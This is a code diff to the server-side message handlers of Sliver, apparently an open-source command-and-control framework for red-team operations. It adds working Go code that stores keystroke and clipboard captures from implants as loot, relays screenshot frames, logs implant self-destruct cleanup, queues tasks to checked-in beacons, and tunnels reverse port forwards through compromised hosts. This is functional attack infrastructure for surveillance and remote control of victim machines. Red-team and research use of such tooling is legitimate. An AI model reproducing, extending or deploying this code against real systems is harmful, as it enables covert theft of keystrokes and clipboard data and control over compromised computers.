@@ -23,9 +23,16 @@ package handlers
 */
 
 import (
+	"errors"
+	"io"
+	"net"
+	"time"
+
+	consts "github.com/bishopfox/sliver/client/constants"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/bishopfox/sliver/server/core"
 	"github.com/bishopfox/sliver/server/log"
+	"github.com/bishopfox/sliver/server/loot"
 
 	"github.com/golang/protobuf/proto"
 )
@@ -37,9 +44,27 @@ var (
 		sliverpb.MsgRegister:    registerSessionHandler,
 		sliverpb.MsgTunnelData:  tunnelDataHandler,
 		sliverpb.MsgTunnelClose: tunnelCloseHandler,
+		sliverpb.MsgKeylog:      keylogHandler,
+
+		sliverpb.MsgClipboardLog: clipboardLogHandler,
+
+		sliverpb.MsgScreenshotFrame: screenshotFrameHandler,
+
+		sliverpb.MsgSelfDestruct: selfDestructHandler,
+
+		sliverpb.MsgRportFwdConn: rportfwdConnHandler,
+
+		sliverpb.MsgBeaconRegister: beaconRegisterHandler,
+		sliverpb.MsgBeaconTasks:    beaconTasksHandler,
 	}
 )
 
+const (
+	rportfwdDialTimeout = 10 * time.Second
+	rportfwdReadBufSize = 32 * 1024
+	hostInfoTimeout     = 30 * time.Second
+)
+
 // GetSessionHandlers - Returns a map of server-side msg handlers
 func GetSessionHandlers() map[uint32]interface{} {
 	return sessionHandlers
@@ -78,7 +103,85 @@ func registerSessionHandler(session *core.Session, data []byte) {
 	session.Filename = register.Filename
 	session.ActiveC2 = register.ActiveC2
 	session.Version = register.Version
+	session.ProtocolVersion = core.NegotiateProtocolVersion(register.ProtocolVersion)
+	if warning := core.ProtocolVersionWarning(register.ProtocolVersion); warning != "" {
+		handlerLog.Warnf("Session %d (%s): %s", session.ID, session.Name, warning)
+	}
 	core.Sessions.Add(session)
+	go cacheHostInfo(session)
+}
+
+// cacheHostInfo - Request the host information once, it's then shown with the
+// session info without another round trip to the implant
+func cacheHostInfo(session *core.Session) {
+	data, _ := proto.Marshal(&sliverpb.HostInfoReq{})
+	data, err := session.Request(sliverpb.MsgHostInfoReq, hostInfoTimeout, data)
+	if err != nil {
+		handlerLog.Warnf("Failed to get host info of session %d: %s", session.ID, err)
+		return
+	}
+	hostInfo := &sliverpb.HostInfo{}
+	err = proto.Unmarshal(data, hostInfo)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	hostInfo.Response = nil
+	session.HostInfo = hostInfo
+}
+
+// beaconRegisterHandler - A beacon checked in, reply with any queued tasks
+func beaconRegisterHandler(session *core.Session, data []byte) {
+	register := &sliverpb.BeaconRegister{}
+	err := proto.Unmarshal(data, register)
+	if err != nil || register.ID == "" {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	beacon := core.Beacons.Checkin(register, session)
+	sendBeaconTasks(session, beacon)
+}
+
+// beaconTasksHandler - A beacon returned the results of the tasks we sent it,
+// reply with any tasks queued in the meantime (an empty reply ends the check-in)
+func beaconTasksHandler(session *core.Session, data []byte) {
+	results := &sliverpb.BeaconTasks{}
+	err := proto.Unmarshal(data, results)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	beacon := core.Beacons.Get(results.ID)
+	if beacon == nil {
+		handlerLog.Warnf("Results from unknown beacon %s", results.ID)
+		return
+	}
+	for _, result := range results.Tasks {
+		task, err := beacon.CompleteTask(result)
+		if err != nil {
+			handlerLog.Warnf("Beacon %s: %s (%d)", beacon.ID, err, result.ID)
+			continue
+		}
+		core.EventBroker.Publish(core.Event{
+			EventType:  consts.BeaconTaskResultEvent,
+			Beacon:     beacon,
+			BeaconTask: task,
+		})
+	}
+	sendBeaconTasks(session, beacon)
+}
+
+func sendBeaconTasks(session *core.Session, beacon *core.Beacon) {
+	tasks := beacon.PendingTasks()
+	handlerLog.Infof("Beacon %s checked in, sending %d task(s)", beacon.ID, len(tasks))
+	data, _ := proto.Marshal(&sliverpb.BeaconTasks{
+		ID:    beacon.ID,
+		Tasks: tasks,
+	})
+	session.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgBeaconTasks,
+		Data: data,
+	}
 }
 
 func tunnelDataHandler(session *core.Session, data []byte) {
@@ -87,7 +190,9 @@ func tunnelDataHandler(session *core.Session, data []byte) {
 	tunnel := core.Tunnels.Get(tunnelData.TunnelID)
 	if tunnel != nil {
 		if session.ID == tunnel.SessionID {
-			tunnel.FromImplant <- tunnelData.GetData()
+			if tunnel.SendFromImplant(tunnelData.Sequence, tunnelData.GetData()) {
+				core.Tunnels.Close(tunnel.ID)
+			}
 		} else {
 			handlerLog.Warnf("Warning: Session %d attempted to send data on tunnel it did not own", session.ID)
 		}
@@ -105,8 +210,10 @@ func tunnelCloseHandler(session *core.Session, data []byte) {
 	tunnel := core.Tunnels.Get(tunnelData.TunnelID)
 	if tunnel != nil {
 		if session.ID == tunnel.SessionID {
-			handlerLog.Infof("Closing tunnel %d", tunnel.ID)
-			core.Tunnels.Close(tunnel.ID)
+			if tunnel.CloseFromImplant(tunnelData.Sequence) {
+				handlerLog.Infof("Closing tunnel %d", tunnel.ID)
+				core.Tunnels.Close(tunnel.ID)
+			}
 		} else {
 			handlerLog.Warnf("Warning: Session %d attempted to send data on tunnel it did not own", session.ID)
 		}
@@ -114,3 +221,156 @@ func tunnelCloseHandler(session *core.Session, data []byte) {
 		handlerLog.Warnf("Close sent on nil tunnel %d", tunnelData.TunnelID)
 	}
 }
+
+func keylogHandler(session *core.Session, data []byte) {
+	keylog := &sliverpb.Keylog{}
+	err := proto.Unmarshal(data, keylog)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	err = loot.SaveKeylog(session.Owner(), keylog)
+	if err != nil {
+		handlerLog.Errorf("Failed to save keylog %s", err)
+	}
+}
+
+// screenshotFrameHandler - Frames are only relayed to clients, whichever are
+// following the session save them
+func screenshotFrameHandler(session *core.Session, data []byte) {
+	frame := &sliverpb.ScreenshotFrame{}
+	err := proto.Unmarshal(data, frame)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	core.EventBroker.Publish(core.Event{
+		EventType: consts.ScreenshotFrameEvent,
+		Session:   session,
+		Data:      data,
+	})
+}
+
+func clipboardLogHandler(session *core.Session, data []byte) {
+	clipboardLog := &sliverpb.ClipboardLog{}
+	err := proto.Unmarshal(data, clipboardLog)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	err = loot.SaveClipboard(session.Owner(), clipboardLog)
+	if err != nil {
+		handlerLog.Errorf("Failed to save clipboard %s", err)
+	}
+}
+
+// selfDestructHandler - The implant removed its artifacts and is about to exit,
+// keep its report as loot so there's a record of what was cleaned up
+func selfDestructHandler(session *core.Session, data []byte) {
+	report := &sliverpb.SelfDestruct{}
+	err := proto.Unmarshal(data, report)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	handlerLog.Infof("%s self-destructed (%s), removed %d artifact(s) with %d error(s)",
+		report.Name, report.Reason, len(report.Removed), len(report.Errors))
+	err = loot.SaveSelfDestruct(session, report)
+	if err != nil {
+		handlerLog.Errorf("Failed to save self-destruct report %s", err)
+	}
+}
+
+// rportfwdConnHandler - The implant accepted a connection on a reverse port forward
+// listener, dial the forward address the operator gave us and tunnel the two together.
+// The implant does not read from the connection until it gets our ack.
+func rportfwdConnHandler(session *core.Session, data []byte) {
+	conn := &sliverpb.RportFwdConn{}
+	err := proto.Unmarshal(data, conn)
+	if err != nil {
+		handlerLog.Warnf("error decoding message: %v", err)
+		return
+	}
+	dst, tunnel, err := rportfwdDial(session, conn)
+	if err != nil {
+		handlerLog.Warnf("Reverse port forward %d: %s", conn.ID, err)
+		conn.Err = err.Error()
+	}
+	ack, _ := proto.Marshal(conn)
+	session.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgRportFwdConnAck,
+		Data: ack,
+	}
+	if err != nil {
+		return
+	}
+	handlerLog.Infof("Reverse port forward %d: %s -> %s (tunnel %d)",
+		conn.ID, conn.RemoteAddress, dst.RemoteAddr(), tunnel.ID)
+
+	go func() {
+		for data := range tunnel.FromImplant {
+			if _, err := dst.Write(data); err != nil {
+				break
+			}
+		}
+		dst.Close()
+	}()
+
+	go func() {
+		sequence := uint64(0)
+		buf := make([]byte, rportfwdReadBufSize)
+		for {
+			n, err := dst.Read(buf)
+			if 0 < n {
+				data, _ := proto.Marshal(&sliverpb.TunnelData{
+					TunnelID:  tunnel.ID,
+					SessionID: tunnel.SessionID,
+					Sequence:  sequence,
+					Data:      append([]byte{}, buf[:n]...),
+				})
+				sequence++
+				session.Send <- &sliverpb.Envelope{
+					Type: sliverpb.MsgTunnelData,
+					Data: data,
+				}
+			}
+			if err != nil {
+				if err != io.EOF {
+					handlerLog.Debugf("Reverse port forward tunnel %d: %s", tunnel.ID, err)
+				}
+				break
+			}
+		}
+		if core.Tunnels.Get(tunnel.ID) == nil {
+			return // Closed by the implant
+		}
+		data, _ := proto.Marshal(&sliverpb.TunnelData{
+			TunnelID:  tunnel.ID,
+			SessionID: tunnel.SessionID,
+			Sequence:  sequence,
+			Closed:    true,
+		})
+		session.Send <- &sliverpb.Envelope{
+			Type: sliverpb.MsgTunnelClose,
+			Data: data,
+		}
+		core.Tunnels.Close(tunnel.ID)
+	}()
+}
+
+func rportfwdDial(session *core.Session, conn *sliverpb.RportFwdConn) (net.Conn, *core.Tunnel, error) {
+	rportfwd := core.RportFwds.Get(session.ID, conn.ID)
+	if rportfwd == nil {
+		return nil, nil, errors.New("Unknown listener")
+	}
+	dst, err := net.DialTimeout("tcp", rportfwd.ForwardAddress, rportfwdDialTimeout)
+	if err != nil {
+		return nil, nil, err
+	}
+	tunnel, err := core.Tunnels.Add(conn.TunnelID, session.ID)
+	if err != nil {
+		dst.Close()
+		return nil, nil, err
+	}
+	return dst, tunnel, nil
+}